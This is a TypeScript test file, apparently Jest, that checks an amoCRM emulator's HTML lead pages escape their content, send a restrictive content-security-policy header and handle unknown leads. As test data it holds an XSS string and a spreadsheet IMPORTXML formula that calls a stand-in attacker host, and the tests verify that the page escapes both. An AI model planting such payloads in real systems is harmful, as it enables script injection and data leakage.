import { startAmocrmEmulator, type AmocrmEmulator } from './amocrm-emulator';

const SCRIPT = '<script>alert(1)</script>';
const FORMULA = '=IMPORTXML("http://evil.example","//a")';

let amo: AmocrmEmulator;
let token: string;

async function api(path: string, body?: unknown, method = 'POST'): Promise<unknown> {
  const res = await fetch(`${amo.url}${path}`, {
    method: body === undefined ? 'GET' : method,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  expect(res.status).toBeLessThan(300);
  return res.json();
}

async function page(path: string) {
  const res = await fetch(`${amo.url}${path}`, { headers: { accept: 'text/html' } });
  return { status: res.status, headers: res.headers, text: await res.text() };
}

beforeAll(async () => {
  amo = await startAmocrmEmulator({ rateLimitPerSecond: 0 });
});

afterAll(() => amo.close());

beforeEach(() => {
  amo.reset();
  amo.setRateLimit(0);
  token = amo.issueTokens().access_token;
});

describe('lead pages', () => {
  it('lists a lead made over the API with pipeline, status, price, custom fields and notes, escaped', async () => {
    const field = (await api('/api/v4/leads/custom_fields', [
      { name: `Order ${SCRIPT}`, type: 'text', code: 'ORDER_ID' },
    ])) as { _embedded: { custom_fields: Array<{ id: number }> } };
    const fieldId = field._embedded.custom_fields[0].id;
    const created = (await api('/api/v4/leads', [
      {
        name: `Lead ${SCRIPT}`,
        price: 12500,
        custom_fields_values: [{ field_id: fieldId, values: [{ value: FORMULA }] }],
      },
    ])) as { _embedded: { leads: Array<{ id: number }> } };
    const id = created._embedded.leads[0].id;
    await api(`/api/v4/leads/${id}`, { status_id: 142 }, 'PATCH');
    await api(`/api/v4/leads/${id}/notes`, [
      { note_type: 'common', params: { text: `Paid ${SCRIPT} & done` } },
    ]);
    const [pipeline] = amo.listPipelines();

    const list = await page('/_emulator/ui');
    expect(list.status).toBe(200);
    expect(list.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(list.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(list.text).toContain('SANDBOX');
    expect(list.text).toContain(`href="/_emulator/ui/leads/${id}"`);
    expect(list.text).toContain('Lead &#60;script&#62;alert(1)&#60;/script&#62;');
    expect(list.text).toContain(`${pipeline.name} (${pipeline.id})`);
    expect(list.text).toMatch(/<span class="won">[^<]+<\/span> <code>142<\/code>/);
    expect(list.text).toContain('12500 ');
    expect(list.text).toContain('Order &#60;script&#62;');
    expect(list.text).toContain('=IMPORTXML(&#34;http://evil.example&#34;,&#34;//a&#34;)');
    expect(list.text).toContain('Paid &#60;script&#62;alert(1)&#60;/script&#62; &#38; done');
    expect(list.text).not.toContain('<script>');

    const detail = await page(`/_emulator/ui/leads/${id}`);
    expect(detail.status).toBe(200);
    expect(detail.text).toContain('custom_fields_values');
    expect(detail.text).toContain('Paid &#60;script&#62;');
    expect(detail.text).not.toContain('<script>');
  });

  it('links the leads page from the root and answers 404 for an unknown lead', async () => {
    const root = await page('/');
    expect(root.status).toBe(200);
    expect(root.text).toContain('href="/_emulator/ui"');
    expect((await page('/_emulator/ui')).text).toContain('No leads yet.');
    expect((await page('/_emulator/ui/leads/999')).status).toBe(404);
  });

  it('is not API traffic: not counted, not faulted, shown while the account is blocked', async () => {
    amo.setBlocked(true);
    expect((await page('/_emulator/ui')).status).toBe(200);
    expect((await page('/')).status).toBe(200);
    expect(amo.counters().requests).toBe(0);
  });

  it('a lead link as amoCRM spells it (/leads/detail/<id>) opens that lead', async () => {
    const lead = amo.createLead({ name: 'Sofa', price: 12500 });
    const found = await page(`/leads/detail/${lead.id}`);
    expect(found.status).toBe(200);
    expect(found.text).toContain('Sofa');
    expect((await page('/leads/detail/999999')).status).toBe(404);
  });
});
